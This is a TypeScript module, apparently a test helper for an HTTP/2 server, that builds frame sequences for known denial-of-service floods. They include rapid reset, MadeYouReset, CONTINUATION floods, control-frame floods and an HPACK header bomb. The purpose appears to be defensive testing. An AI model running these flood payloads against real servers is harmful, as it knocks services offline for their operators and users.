import { ErrorCode } from '../../src/h2/error-codes.ts'
import { Flag, FrameType, numberFrame, settingsFrame, smallFrame } from '../../src/h2/frames.ts'
import { data, type Fields, headers, literals } from './frame-builders.ts'

/** Frames that cost a server more than their sender. */
export interface Flood {
  readonly name: string
  /** What begins it. */
  readonly first?: readonly Buffer[]
  /** What then comes again and again, with a new stream each time. */
  readonly again: (streamId: number) => readonly Buffer[]
}

const bytes = (...all: readonly number[]) => Buffer.from(all)

/** Every kind of flood, with requests that the server would serve. */
export function createFloods(get: Fields, post: Fields): readonly Flood[] {
  /** A header of 4,000 bytes that the table remembers, and one byte for each time it is repeated. */
  const bomb = Buffer.concat([
    literals(get),
    bytes(0x40, 1, 0x61, 127, 0xa1, 0x1e),
    Buffer.alloc(4000, 'a'),
    Buffer.alloc(8000, 0xbe),
  ])
  return [
    {
      name: 'rapid reset (CVE-2023-44487)',
      again: (id) => [headers(id, get), numberFrame(FrameType.rstStream, id, ErrorCode.cancel)],
    },
    {
      name: 'MadeYouReset (CVE-2025-8671)',
      again: (id) => [headers(id, get), numberFrame(FrameType.windowUpdate, id, 0)],
    },
    {
      name: 'malformed requests',
      again: (id) => [headers(id, [...get, ['connection', 'close']])],
    },
    {
      name: 'CONTINUATION (CVE-2024-27316, CVE-2024-27983)',
      first: [smallFrame(FrameType.headers, 0, 1, literals(get))],
      again: () => [smallFrame(FrameType.continuation, 0, 1, literals([['x-a', 'b']]))],
    },
    { name: 'SETTINGS', again: () => [settingsFrame([[4, 65_535]])] },
    { name: 'PING', again: () => [smallFrame(FrameType.ping, 0, 0, Buffer.alloc(8))] },
    {
      name: 'empty DATA',
      first: [headers(1, post, { body: true })],
      again: () => [data(1, '', false)],
    },
    {
      name: 'PRIORITY',
      again: (id) => [smallFrame(FrameType.priority, 0, id, bytes(0, 0, 0, 0, 16))],
    },
    { name: 'WINDOW_UPDATE', again: () => [numberFrame(FrameType.windowUpdate, 0, 1)] },
    { name: 'unknown frames', again: () => [smallFrame(0xfa, 0, 0, Buffer.alloc(8))] },
    {
      name: 'HPACK bombs',
      again: (id) => [smallFrame(FrameType.headers, Flag.endHeaders | Flag.endStream, id, bomb)],
    },
    { name: 'thousands of idle streams', again: (id) => [headers(id, post, { body: true })] },
  ]
}
